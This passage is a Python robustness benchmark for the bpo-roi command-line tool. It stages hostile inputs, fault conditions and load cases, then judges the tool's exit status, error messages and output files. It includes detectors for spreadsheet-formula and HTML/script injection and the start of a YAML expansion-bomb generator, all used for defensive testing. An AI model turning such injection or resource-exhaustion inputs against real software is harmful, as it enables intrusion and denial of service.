"""`make hostile`: the hostile corpus of issue 29, rebuilt, rerun and judged case by case.

    PYTHONPATH=. .venv/bin/python benchmarks/hostile_corpus.py [--quick] [--category NAME]

Every case is generated into a folder of its own under a temporary directory (inputs in
``in/``, the working directory ``cwd/``, ``HOME`` and ``TMPDIR`` in ``home/`` and ``tmp/``,
results in ``out/``), then the real command line runs on it (``python -m bpo_roi.cli``, this
tree first on the path) with a time limit and a 4 GiB address-space limit
(``RLIMIT_AS``, set in ``preexec_fn``), and a judge reads the exit status, standard error and
the files written. Six categories:

- ``bad-input``: wrong types, unknown keys at every level, every numeric field of the schema
  out of range (generated from :meth:`Scenario.numeric_paths` and the field bounds), impossible
  dates, YAML tricks, files that are not files, notebooks that are not notebooks, bad ``-p``
  and bad options. PASS: exit 2, one line on standard error (plus at most a hint line) naming
  the file and the field, no traceback and no pydantic wording.
- ``injection``: names and notes that carry HTML, script, spreadsheet formulas, invisible or
  reordering characters, path traversal. PASS: refused in one line, or accepted with every
  output inert (HTML escaped, CSV cells neutralised, workbook cells text, not formulas) and
  nothing written outside ``--out``.
- ``faults``: read-only or file ``--out``, a held or linked lock, FIFOs where results go, a
  damaged earlier result, a file-size limit, a closed standard output, SIGTERM mid-run. PASS:
  one line or clean handling, every user file as it was, no process left behind.
- ``load``: queues and volumes at their extremes, huge sweeps and diffs, 64 workers. PASS:
  done or refused within :data:`LOAD_SECONDS` with less than 4 GiB resident.
- ``numeric``: valid inputs at their extremes. PASS: refused in one line naming the inputs,
  or every figure of ``metrics.json``, ``monthly.csv`` and ``annual.csv`` finite and below
  :data:`MAX_FIGURE` in absolute value.
- ``writes``: each command with ``HOME`` and the working directory watched. PASS: nothing
  appears outside ``--out`` (and ``TMPDIR``).

Every case of every category also fails when the command wrote outside ``--out`` or left a
process running. The script prints a table (category, cases, passed, failed, skipped) and each
failure with its case id, the reason and the first 200 characters of standard error. It is a
report, not a gate: the exit status is 0 unless the script itself breaks. ``--quick`` runs a
fixed subset of about forty cases (under two minutes); ``--list`` prints the case ids.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import fcntl
import io
import json
import math
import os
import re
import resource
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
ASSUMPTIONS = ROOT / "assumptions"
SHIPPED = {p.stem: p for p in sorted(ASSUMPTIONS.glob("*.yaml"))}
NOTEBOOK = ROOT / "notebooks" / "business_case.ipynb"
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

CATEGORIES = ("bad-input", "injection", "faults", "load", "numeric", "writes")
MEMORY_LIMIT = 4 << 30
"""Address-space limit of every command (``RLIMIT_AS``): 4 GiB."""
LOAD_SECONDS = 10.0
"""A load case passes when it is done or refused within this many seconds (wall clock)."""
MAX_FIGURE = 1e15
"""Largest absolute figure a numeric case may write (the kit's own bound is 1e15 a month)."""
PYDANTIC_WORDS = ("validation error for", "[type=", "should match pattern", "input_value")
"""pydantic's wording, which a user should never see."""
TIMEOUT = 60.0
"""Seconds before a command that does not start kernels is killed."""
RUN_TIMEOUT = 300.0
"""Seconds before a ``bpo-roi run`` (Jupyter kernels) is killed."""
CASE_VARIABLE = "HOSTILE_CORPUS_CASE"
"""Set in every command's environment, so that a process it leaves behind can be found."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""
RESULT_FILES = ("monthly.csv", "annual.csv", "metrics.json", "summary.csv", "summary.html",
                "diff.csv", "bridge.html", "sweep.csv", "sweep.parquet", "report.html",
                "results.xlsx")
"""Files a refused command must not have written into ``--out``."""


# -- the case model ----------------------------------------------------------------------------


class Context:
    """One case's folder: ``in/`` (inputs), ``cwd/`` (working directory), ``home/`` (HOME),
    ``tmp/`` (TMPDIR) and ``out/`` (``--out``, not created); plus what the case protects and
    what it must undo afterwards."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.inputs, self.cwd, self.home, self.tmp = (root / n for n in ("in", "cwd", "home",
                                                                          "tmp"))
        self.out = root / "out"
        for folder in (self.inputs, self.cwd, self.home, self.tmp):
            folder.mkdir(parents=True, exist_ok=True)
        self.cleanups: list[Callable[[], None]] = []
        self.protected: dict[Path, tuple[Any, ...]] = {}
        self.allowed: list[Path] = []  # folders besides out/ and tmp/ a command may write into

    def write(self, name: str, content: str | bytes) -> Path:
        """A file in ``in/`` (text as UTF-8)."""
        path = self.inputs / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str):
            path.write_text(content, encoding="utf-8", newline="")
        else:
            path.write_bytes(content)
        return path

    def protect(self, path: Path) -> Path:
        """Remember ``path`` as it is now: the case fails if the command changes it."""
        self.protected[path] = _state(path)
        return path

    def changed_protected(self) -> list[str]:
        return [self.rel(p) for p, before in self.protected.items() if _state(p) != before]

    def rel(self, path: Path) -> str:
        try:
            return str(path.relative_to(self.root))
        except ValueError:
            return str(path)


def _state(path: Path) -> tuple[Any, ...]:
    """What a protected path is: its type and content (a FIFO is never opened)."""
    try:
        st = os.lstat(path)
    except FileNotFoundError:
        return ("missing",)
    if stat.S_ISLNK(st.st_mode):
        return ("link", os.readlink(path))
    if stat.S_ISREG(st.st_mode):
        return ("file", path.read_bytes())
    if stat.S_ISDIR(st.st_mode):
        return ("folder", tuple(sorted(p.name for p in path.iterdir())))
    return ("special", stat.S_IFMT(st.st_mode))


@dataclass
class Spec:
    """What a case runs, once its files are in place."""

    args: list[str]
    timeout: float = TIMEOUT
    cwd: Path | None = None
    during: Callable[[subprocess.Popen[bytes], Context], None] | None = None
    """Called right after the command starts (e.g. to send it a signal)."""
    close_stdout: bool = False
    """Standard output is a pipe whose reader has gone (``| head -1``)."""
    file_size_limit: int | None = None
    """``RLIMIT_FSIZE`` in bytes: a full disk, as the command sees it."""


@dataclass
class Result:
    """What a command did."""

    returncode: int
    stdout: str
    stderr: str
    seconds: float
    cpu_seconds: float
    peak_mb: float
    timed_out: bool
    outside: list[str] = field(default_factory=list)
    leftover: list[str] = field(default_factory=list)

    @property
    def lines(self) -> list[str]:
        """The non-empty lines of standard error."""
        return [line for line in self.stderr.splitlines() if line.strip()]


Judge = Callable[[Context, Result], "str | None"]


@dataclass
class Case:
    """One hostile case: ``prepare`` writes its files and says what to run; ``judge`` returns
    None (PASS) or why it failed."""

    id: str
    category: str
    prepare: Callable[[Context], Spec]
    judge: Judge
    quick: bool = False
    kernels: bool = False
    """Runs ``bpo-roi run``, which starts Jupyter kernels (10-30 s)."""


@dataclass
class Outcome:
    case: Case
    status: str  # "pass", "fail" or "skip"
    reason: str = ""
    stderr: str = ""
    seconds: float = 0.0
    returncode: int | None = None


class Skip(Exception):
    """Raised by ``prepare`` when the machine cannot stage the case (reported as skipped)."""


# -- running a case ------------------------------------------------------------------------------


def _environment(ctx: Context, token: str) -> dict[str, str]:
    """The command's environment: this tree first on the path, HOME and TMPDIR in the case's
    folder, nothing that points Jupyter, Dask or XDG elsewhere."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("XDG_", "JUPYTER", "DASK_", "IPYTHON", "PYTHON", "MPL"))}
    env.update(PYTHONPATH=str(ROOT), HOME=str(ctx.home), TMPDIR=str(ctx.tmp),
               PYTHONDONTWRITEBYTECODE="1", PYTHONUNBUFFERED="1", COLUMNS="100",
               **{CASE_VARIABLE: token})
    return env


def _snapshot(ctx: Context) -> dict[str, tuple[Any, ...]]:
    """Every file under the case's folder except ``out/``, ``tmp/`` and the allowed folders
    (folders themselves are not listed: an empty folder is not a file)."""
    skip = {ctx.out, ctx.tmp, *ctx.allowed}
    found: dict[str, tuple[Any, ...]] = {}
    for dirpath, dirnames, filenames in os.walk(ctx.root):
        here = Path(dirpath)
        dirnames[:] = [n for n in dirnames if here / n not in skip]
        for name in [*filenames, *(n for n in dirnames if (here / n).is_symlink())]:
            path = here / name
            if path in skip:
                continue
            try:
                st = os.lstat(path)
            except FileNotFoundError:
                continue
            link = os.readlink(path) if stat.S_ISLNK(st.st_mode) else ""
            found[ctx.rel(path)] = (stat.S_IFMT(st.st_mode), st.st_size, st.st_mtime_ns, link)
    return found


def _processes_of(token: str) -> list[tuple[int, str]]:
    """Processes whose environment carries the case's token (kernels and workers included,
    whatever session they started)."""
    marker = f"{CASE_VARIABLE}={token}".encode()
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            if marker not in (entry / "environ").read_bytes().split(b"\0"):
                continue
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ")[:80].decode(
                "utf-8", "replace")
        except OSError:
            continue
        if state != "Z":
            found.append((int(entry.name), command.strip()))
    return found


def _leftovers(token: str, grace: float = 8.0) -> list[str]:
    """Processes of the case still running ``grace`` seconds after the command ended: killed,
    and listed."""
    if not Path("/proc").is_dir():
        return []
    deadline = time.monotonic() + grace
    while (alive := _processes_of(token)) and time.monotonic() < deadline:
        time.sleep(0.25)
    for pid, _ in alive:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    return [f"pid {pid} ({command})" for pid, command in alive]


def execute(spec: Spec, ctx: Context, token: str, logs: Path) -> Result:
    """Run ``python -m bpo_roi.cli ARGS`` in the case's folder under the limits."""
    argv = [sys.executable, "-m", "bpo_roi.cli", *spec.args]

    def limits() -> None:  # in the child, before exec
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
        if spec.file_size_limit is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (spec.file_size_limit,) * 2)

    out_path, err_path = logs / f"{token}.stdout", logs / f"{token}.stderr"
    start = time.monotonic()
    with out_path.open("wb") as out_fh, err_path.open("wb") as err_fh:
        proc = subprocess.Popen(
            argv, cwd=spec.cwd or ctx.cwd, env=_environment(ctx, token),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE if spec.close_stdout else out_fh, stderr=err_fh,
            preexec_fn=limits, start_new_session=True)
        if spec.close_stdout and proc.stdout is not None:
            proc.stdout.close()  # the reader has gone before the first line
        timed_out = False
        try:
            if spec.during is not None:
                spec.during(proc, ctx)
            deadline = start + spec.timeout
            while True:
                pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
                if pid:
                    break
                if time.monotonic() > deadline:
                    timed_out = True
                    with contextlib.suppress(OSError):
                        os.killpg(proc.pid, signal.SIGKILL)
                    pid, status, usage = os.wait4(proc.pid, 0)
                    break
                time.sleep(0.02)
        except BaseException:
            with contextlib.suppress(OSError):
                os.killpg(proc.pid, signal.SIGKILL)
            raise
        proc.returncode = os.waitstatus_to_exitcode(status)  # reaped here, not by Popen
    seconds = time.monotonic() - start
    return Result(
        returncode=proc.returncode,
        stdout=out_path.read_text(encoding="utf-8", errors="replace"),
        stderr=err_path.read_text(encoding="utf-8", errors="replace"),
        seconds=seconds, cpu_seconds=usage.ru_utime + usage.ru_stime,
        peak_mb=usage.ru_maxrss / 1024, timed_out=timed_out,
        leftover=_leftovers(token))


def _safe_name(case_id: str) -> str:
    return re.sub(r"[^A-Za-z0-9._-]+", "_", case_id)[:120]


def run_case(case: Case, base: Path, known: frozenset[str] = frozenset()) -> Outcome:
    """Stage, run and judge one case in ``base/cases/<id>`` (``known``: the folder names of
    the cases that may run at the same time, which are not the command's doing)."""
    token = _safe_name(case.id)
    root = base / "cases" / token
    ctx = Context(root)
    start = time.monotonic()
    try:
        try:
            spec = case.prepare(ctx)
        except Skip as exc:
            return Outcome(case, "skip", str(exc))
        before = _snapshot(ctx)
        siblings = set(os.listdir(base)) | set(os.listdir(base / "cases")) | known
        result = execute(spec, ctx, token, base / "logs")
        after = _snapshot(ctx)
        escaped = (set(os.listdir(base)) | set(os.listdir(base / "cases"))) - siblings
        result.outside = sorted({k for k in after if before.get(k) != after[k]}
                                | {f"{k} (removed)" for k in before if k not in after}
                                | {f"../{name}" for name in escaped})
        reason = case.judge(ctx, result)
        return Outcome(case, "fail" if reason else "pass", reason or "", result.stderr,
                       time.monotonic() - start, result.returncode)
    except Exception as exc:  # the corpus itself broke on this case: said so, never hidden
        return Outcome(case, "fail", f"CORPUS ERROR (not the product): {type(exc).__name__}: "
                                     f"{exc}", "", time.monotonic() - start)
    finally:
        for undo in reversed(ctx.cleanups):
            with contextlib.suppress(Exception):
                undo()


# -- judges ----------------------------------------------------------------------------------


def _norm(text: str) -> str:
    return text.lower().replace("_", "-")


def common_problem(ctx: Context, r: Result) -> str | None:
    """What fails any case: killed at its time limit, a traceback, pydantic's wording, a
    process left running, a file written outside ``--out``, a protected file changed."""
    if r.timed_out:
        return f"no answer within {r.seconds:.0f} s (killed)"
    if r.returncode < 0:
        return f"killed by signal {-r.returncode}"
    if "Traceback" in r.stderr:
        tail = r.lines[-1] if r.lines else ""
        return f"a traceback ({tail[:120]})"
    if words := [w for w in PYDANTIC_WORDS if w in r.stderr]:
        return f"pydantic wording {words[0]!r}"
    if r.leftover:
        return f"left {len(r.leftover)} process(es) running: {'; '.join(r.leftover)[:150]}"
    if r.outside:
        return f"wrote outside --out: {', '.join(r.outside)[:150]}"
    if changed := ctx.changed_protected():
        return f"a user file changed or lost: {', '.join(changed)[:150]}"
    return None


def one_line_problem(r: Result, tokens: Sequence[str] = (), any_of: Sequence[str] = ()
                     ) -> str | None:
    """Standard error is one line plus at most a hint line, naming every token (and at least
    one of ``any_of``); ``_`` and ``-`` and case are not told apart."""
    lines = r.lines
    if not lines:
        return "nothing on standard error"
    if len(lines) > 2:
        return f"{len(lines)} lines on standard error, not one"
    if max(len(line) for line in lines) > 1000:
        return "a line of more than 1000 characters on standard error"
    text = _norm(r.stderr)
    missing = [t for t in tokens if _norm(t) not in text]
    if missing:
        return f"the message does not name {', '.join(repr(t) for t in missing)}"
    if any_of and not any(_norm(t) in text for t in any_of):
        return f"the message names none of {', '.join(repr(t) for t in any_of)[:120]}"
    return None


def written_results(ctx: Context) -> list[str]:
    if not ctx.out.is_dir():
        return []
    return sorted(ctx.rel(p) for p in ctx.out.rglob("*") if p.name in RESULT_FILES
                  and p.is_file() and p not in ctx.protected)


def refused(tokens: Sequence[str] = (), *, accept: bool = False, codes: Sequence[int] = (2,)
            ) -> Judge:
    """bad-input: exit 2 (``codes``) and one line naming ``tokens``; with ``accept`` a clean
    success (exit 0) passes too (a valid file with a BOM, a link to a valid file)."""

    def judge(ctx: Context, r: Result) -> str | None:
        if problem := common_problem(ctx, r):
            return problem
        if accept and r.returncode == 0:
            return None
        if r.returncode not in codes:
            return f"exit {r.returncode}, expected {' or '.join(map(str, codes))}"
        if problem := one_line_problem(r, tokens):
            return problem
        if wrote := written_results(ctx):
            return f"refused, yet wrote {', '.join(wrote)[:120]}"
        return None

    return judge


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_problems(path: Path) -> list[str]:
    """Cells a spreadsheet would run as a formula: text starting with = + - @ tab or CR."""
    bad = []
    with path.open(encoding="utf-8", newline="") as fh:
        for i, row in enumerate(csv.reader(fh), start=1):
            for cell in row:
                if cell.startswith(FORMULA_STARTS) and not _is_number(cell):
                    bad.append(f"{path.name} row {i}: {cell[:40]!r}")
    return bad


class _MarkupScan(HTMLParser):
    """Markup a payload made: an event-handler attribute that runs ``alert``, a
    ``javascript:`` link, or a script element whose code is the payload's ``alert(...)``.
    (A payload shown as text, even with its quotes, or inside a JSON string is inert.)"""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.script: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on") and "alert" in text:
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data") and \
                    text.startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "script":
            self.script = []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.script = None

    def handle_data(self, data: str) -> None:
        if self.script is not None:
            self.script.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self.script is not None:
            code = "".join(self.script).strip()
            if code.startswith("alert("):
                self.found.append(f"<script>{code[:30]}")
            self.script = None


def html_problems(path: Path) -> list[str]:
    """Markup a payload made in a page (:class:`_MarkupScan`)."""
    scan = _MarkupScan()
    scan.feed(path.read_text(encoding="utf-8", errors="replace"))
    scan.close()
    return [f"{path.name} has live markup from a name: {m[:60]}" for m in scan.found]


def xlsx_problems(path: Path, markers: Sequence[str]) -> list[str]:
    """Workbook cells holding a payload as a formula (not text), or a link to one."""
    import openpyxl

    # a marker as a whole token: the live model's own formulas hold "MIN(1+11,...)"
    tokens = [re.compile(rf"(?<![\w.]){re.escape(m)}(?![\w])") for m in markers]
    bad = []
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if value is None:
                    continue
                if cell.data_type == "f" and any(t.search(str(value)) for t in tokens):
                    bad.append(f"{path.name} {sheet.title}!{cell.coordinate} is a formula: "
                               f"{str(value)[:40]!r}")
                link = cell.hyperlink.target if cell.hyperlink is not None else None
                if link and any(m in str(link) for m in markers):
                    bad.append(f"{path.name} {sheet.title}!{cell.coordinate} links to "
                               f"{link[:40]!r}")
    return bad


def inert(markers: Sequence[str], expect: Sequence[str]) -> Judge:
    """injection: refused in one line, or exit 0 with the ``expect`` files written under
    ``--out`` and every output inert: HTML escaped, CSV cells neutralised, workbook cells text
    (``markers``: fragments that identify a payload inside a formula)."""

    def judge(ctx: Context, r: Result) -> str | None:
        if problem := common_problem(ctx, r):
            return problem
        if r.returncode == 2:
            return one_line_problem(r)
        if r.returncode != 0:
            return f"exit {r.returncode}: neither refused (2) nor accepted (0)"
        for pattern in expect:
            if not list(ctx.out.glob(pattern)):
                return f"accepted, yet {pattern} was not written"
        bad: list[str] = []
        for path in sorted(ctx.out.rglob("*")):
            if not path.is_file():
                continue
            if path.suffix == ".csv":
                bad += csv_problems(path)
            elif path.suffix == ".html":
                bad += html_problems(path)
            elif path.suffix == ".xlsx":
                bad += xlsx_problems(path, markers)
            elif path.suffix == ".json":
                try:
                    json.loads(path.read_text(encoding="utf-8"))
                except ValueError as exc:
                    bad.append(f"{path.name} is not JSON ({exc})")
        return "; ".join(bad)[:300] if bad else None

    return judge


def _figures(value: Any, where: str) -> Iterator[tuple[str, float]]:
    if isinstance(value, bool) or value is None or isinstance(value, str):
        return
    if isinstance(value, (int, float)):
        yield where, float(value)
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from _figures(v, f"{where}.{k}")
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _figures(v, f"{where}[{i}]")


def figure_problems(folder: Path) -> list[str]:
    """Figures of ``metrics.json``, ``monthly.csv`` and ``annual.csv`` that are not finite or
    not below :data:`MAX_FIGURE` in absolute value (the first of each file)."""
    bad = []
    metrics = folder / "metrics.json"
    if not metrics.is_file():
        return [f"{metrics.name} was not written"]
    for where, x in _figures(json.loads(metrics.read_text(encoding="utf-8")), "metrics"):
        if not math.isfinite(x) or abs(x) >= MAX_FIGURE:
            bad.append(f"{where} = {x:g}")
            break
    for name in ("monthly.csv", "annual.csv"):
        path = folder / name
        if not path.is_file():
            bad.append(f"{name} was not written")
            continue
        with path.open(encoding="utf-8", newline="") as fh:
            rows = csv.reader(fh)
            header = next(rows)
            for row in rows:
                hit = next(((h, c) for h, c in zip(header, row, strict=False) if _is_number(c)
                            and (not math.isfinite(float(c)) or abs(float(c)) >= MAX_FIGURE)),
                           None)
                if hit:
                    bad.append(f"{name} {hit[0]} = {hit[1]} (offer {row[0]!r})")
                    break
    return bad


def sane(inputs: Sequence[str]) -> Judge:
    """numeric: refused in one line naming one of ``inputs`` (a field, or its section), or
    exit 0 with every figure finite and below :data:`MAX_FIGURE`."""

    def judge(ctx: Context, r: Result) -> str | None:
        if problem := common_problem(ctx, r):
            return problem
        if r.returncode == 2:
            return one_line_problem(r, any_of=inputs)
        if r.returncode != 0:
            return f"exit {r.returncode}: neither refused (2) nor evaluated (0)"
        bad = figure_problems(ctx.out)
        return "; ".join(bad)[:300] if bad else None

    return judge


def bounded(seconds: float = LOAD_SECONDS, codes: Sequence[int] = (0, 2)) -> Judge:
    """load: done (exit 0) or refused in one line (exit 2) within ``seconds``, under 4 GiB."""

    def judge(ctx: Context, r: Result) -> str | None:
        if problem := common_problem(ctx, r):
            return problem
        if r.returncode not in codes:
            return f"exit {r.returncode}, expected {' or '.join(map(str, codes))}"
        if r.returncode == 2 and (problem := one_line_problem(r)):
            return problem
        if r.seconds > seconds:
            load = os.getloadavg()[0]
            return (f"took {r.seconds:.1f} s (CPU {r.cpu_seconds:.1f} s, load average "
                    f"{load:.1f}); more than {seconds:.0f} s")
        if r.peak_mb >= MEMORY_LIMIT / 2**20:
            return f"peak resident memory {r.peak_mb:,.0f} MB"
        return None

    return judge


def handled(codes: Sequence[int], tokens: Sequence[str] = (), *, one_line: bool = True,
            check: Callable[[Context, Result], str | None] | None = None) -> Judge:
    """faults and writes: exit in ``codes``; when not 0, one line naming ``tokens``; then the
    case's own ``check``."""

    def judge(ctx: Context, r: Result) -> str | None:
        if problem := common_problem(ctx, r):
            return problem
        if r.returncode not in codes:
            return f"exit {r.returncode}, expected {' or '.join(map(str, codes))}"
        if r.returncode != 0 and one_line and (problem := one_line_problem(r, tokens)):
            return problem
        return check(ctx, r) if check is not None else None

    return judge


# -- scenario files --------------------------------------------------------------------------


def _yaml() -> Any:
    from ruamel.yaml import YAML

    yaml = YAML(typ="rt", pure=True)
    yaml.width = 4096
    return yaml


def shipped_text(stem: str) -> str:
    return SHIPPED[stem].read_text(encoding="utf-8")


def _set(data: Any, path: str, value: Any) -> None:
    """Set a dotted path (digits index lists) in round-trip YAML data, creating mappings."""
    from ruamel.yaml.comments import CommentedMap

    parts = path.split(".")
    node = data
    for part in parts[:-1]:
        key: Any = int(part) if isinstance(node, list) else part
        if isinstance(node, dict) and not isinstance(node.get(key), (dict, list)):
            node[key] = CommentedMap()
        node = node[key]
    last = parts[-1]
    node[int(last) if isinstance(node, list) else last] = value


def _delete(data: Any, path: str) -> None:
    parts = path.split(".")
    node = data
    for part in parts[:-1]:
        node = node[int(part) if isinstance(node, list) else part]
    del node[int(parts[-1]) if isinstance(node, list) else parts[-1]]


def mutated(stem: str, changes: dict[str, Any] | None = None, deletions: Sequence[str] = ()
            ) -> str:
    """A shipped scenario with values set at dotted paths (round-trip: comments and layout
    kept) and keys deleted."""
    data = _yaml().load(shipped_text(stem))
    for path, value in (changes or {}).items():
        _set(data, path, value)
    for path in deletions:
        _delete(data, path)
    buffer = io.StringIO()
    _yaml().dump(data, buffer)
    return buffer.getvalue()


def replaced(stem: str, pattern: str, new: str) -> str:
    """A shipped scenario with the first match of a regular expression (multiline) replaced."""
    text = shipped_text(stem)
    result, n = re.subn(pattern, new, text, count=1, flags=re.MULTILINE)
    if n != 1:
        raise ValueError(f"{pattern!r} not found in {stem}")
    return result


def tiny_scenario(name: str = "Tiny", offer_names: Sequence[str] = ("Seats",),
                  notes: str | None = None) -> str:
    """A small valid scenario (the tests' tiny one) with the given names, as YAML text."""
    offers = [{
        "name": n, "pricing": {"model": "per_seat", "rate_per_seat_month": 4000 + 100 * i,
                               "productive_hours_per_seat_month": 125, "minimum_seats": 0},
        "quality": {"error_rate": 0.02},
        "governance": {"retained_fte": 1, "cost_per_fte_annual": 60000},
        "transition": {"vendor_selection": 10000, "knowledge_transfer": 20000},
        "parallel_run_months": 1, "exit_cost": 10000} for i, n in enumerate(offer_names)]
    data: dict[str, Any] = {
        "scenario": {"name": name, "currency": "USD", "start_month": "2027-01",
                     "horizon_months": 12, "discount_rate_annual": 0.08},
        "workload": {"monthly_volume": 6000, "annual_growth": 0.0, "handle_time_minutes": 10},
        "in_house": {"paid_hours_per_month": 100, "shrinkage": 0.0, "occupancy": 1.0,
                     "salary_annual": 60000, "benefits_rate": 0.2,
                     "overhead_per_seat_monthly": 500, "supervisor_salary_annual": 72000,
                     "span_of_control": 10, "fixed_monthly": 1000},
        "offers": offers}
    if notes is not None:
        data["scenario"]["notes"] = notes
    return json.dumps(data, ensure_ascii=False, indent=1)  # JSON is YAML; escapes stay exact


def last_field(path: str) -> str:
    """The field a message must name: the last part of a path that is not an index."""
    return next(p for p in reversed(path.split(".")) if not p.isdigit())


# -- helpers for staging -----------------------------------------------------------------------


def command_on(args: Callable[[Context], list[str]], timeout: float = TIMEOUT
               ) -> Callable[[Context], Spec]:
    def prepare(ctx: Context) -> Spec:
        return Spec(args(ctx), timeout=timeout)

    return prepare


def _read_only(ctx: Context, folder: Path) -> None:
    """Make ``folder`` read-only for this process's user: ``chmod 555``, or for root (whom
    modes do not stop) the immutable attribute; undone after the case."""
    if os.geteuid() != 0:
        folder.chmod(0o555)
        ctx.cleanups.append(lambda: folder.chmod(0o755))
        return
    if shutil.which("chattr") is None:
        raise Skip("running as root without chattr: cannot make a folder read-only")
    proc = subprocess.run(["chattr", "+i", str(folder)], capture_output=True, text=True)
    if proc.returncode != 0:
        raise Skip(f"chattr +i failed: {proc.stderr.strip()[:80]}")
    ctx.cleanups.append(lambda: subprocess.run(["chattr", "-i", str(folder)], check=False))


def _hold_lock(ctx: Context, folder: Path) -> None:
    """Hold the kit's output lock of ``folder`` as a running bpo-roi would."""
    folder.mkdir(parents=True, exist_ok=True)
    fd = os.open(folder / ".bpo-roi.lock", os.O_RDWR | os.O_CREAT, 0o644)
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    os.write(fd, f"pid {os.getpid()}".encode())
    ctx.cleanups.append(lambda: os.close(fd))


def _fifo(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)
    return path


def _user_file(ctx: Context, path: Path, text: str = "the controller's own numbers\n") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return ctx.protect(path)


def _run_args(ctx: Context, *files: str, trials: int = 200) -> list[str]:
    return ["run", *files, "--out", str(ctx.out), "--quiet", "-p", f"trials={trials}"]


def _sweep_args(ctx: Context, file: str, grid: str = "workload.monthly_volume=40000,50000",
                *extra: str) -> list[str]:
    return ["sweep", file, "--grid", grid, "--out", str(ctx.out), "--quiet", "--workers", "1",
            *extra]


AP = str(SHIPPED["ap_invoice_processing"])
HD = str(SHIPPED["it_helpdesk"])
CC = str(SHIPPED["contact_centre"])
CLAIMS = str(SHIPPED["claims_back_office"])


# -- bad input -------------------------------------------------------------------------------


def _numeric_fields() -> list[tuple[str, str, dict[str, Any]]]:
    """(scenario, path, bounds) of every numeric field of the shipped scenarios, one path per
    field (list indexes folded), from the schema: :meth:`Scenario.numeric_paths` and
    :meth:`Scenario.field_bounds`."""
    from bpo_roi.scenario.reading import load_scenario

    seen: set[str] = set()
    found = []
    for stem, path in SHIPPED.items():
        scenario = load_scenario(path)
        for dotted in scenario.numeric_paths():
            pattern = re.sub(r"\.\d+(?=\.|$)", ".N", dotted)
            bounds = scenario.field_bounds(dotted)
            if pattern in seen or all(bounds[k] is None for k in ("ge", "gt", "le", "lt")):
                continue
            seen.add(pattern)
            found.append((stem, dotted, bounds))
    return found


def _integer_fields() -> list[tuple[str, str, int | None, int | None]]:
    """(scenario, path, ge, le) of every bounded integer field set in a shipped scenario."""
    from pydantic import BaseModel

    from bpo_roi.scenario.reading import load_scenario

    seen: set[str] = set()
    found: list[tuple[str, str, int | None, int | None]] = []

    def walk(stem: str, node: Any, prefix: str) -> None:
        if isinstance(node, BaseModel):
            for name, info in type(node).model_fields.items():
                value = getattr(node, name)
                path = f"{prefix}.{name}" if prefix else name
                if isinstance(value, int) and not isinstance(value, bool):
                    ge = next((m.ge for m in info.metadata if hasattr(m, "ge")), None)
                    le = next((m.le for m in info.metadata if hasattr(m, "le")), None)
                    pattern = re.sub(r"\.\d+(?=\.|$)", ".N", path)
                    if (ge is not None or le is not None) and pattern not in seen:
                        seen.add(pattern)
                        found.append((stem, path, ge, le))
                else:
                    walk(stem, value, path)
        elif isinstance(node, (tuple, list)):
            for i, item in enumerate(node):
                walk(stem, item, f"{prefix}.{i}")

    for stem, path in SHIPPED.items():
        walk(stem, load_scenario(path), "")
    return found


def _mappings(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(node, dict):
        yield path
        for key, value in node.items():
            yield from _mappings(value, (*path, key))
    elif isinstance(node, list):
        for i, item in enumerate(node):
            yield from _mappings(item, (*path, i))


def _below(b: dict[str, Any]) -> float | None:
    if b["gt"] is not None:
        return b["gt"]
    if b["ge"] is not None:
        return b["ge"] - max(abs(b["ge"]), 1.0) * 0.5
    return None


def _above(b: dict[str, Any]) -> float | None:
    if b["lt"] is not None:
        return b["lt"]
    if b["le"] is not None:
        return b["le"] * 2 if b["le"] > 0 else b["le"] + 1
    return None


def _file_case(case_id: str, content: Callable[[], str | bytes], tokens: Sequence[str] = (),
               *, accept: bool = False, quick: bool = False, file: str = "s.yaml",
               command: str = "validate") -> Case:
    def prepare(ctx: Context) -> Spec:
        path = ctx.write(file, content())
        if command == "evaluate":
            return Spec(["evaluate", str(path), "--out", str(ctx.out)])
        return Spec([command, str(path)])

    return Case(case_id, "bad-input", prepare, refused([file, *tokens], accept=accept),
                quick=quick)


def _bomb(levels: int) -> str:
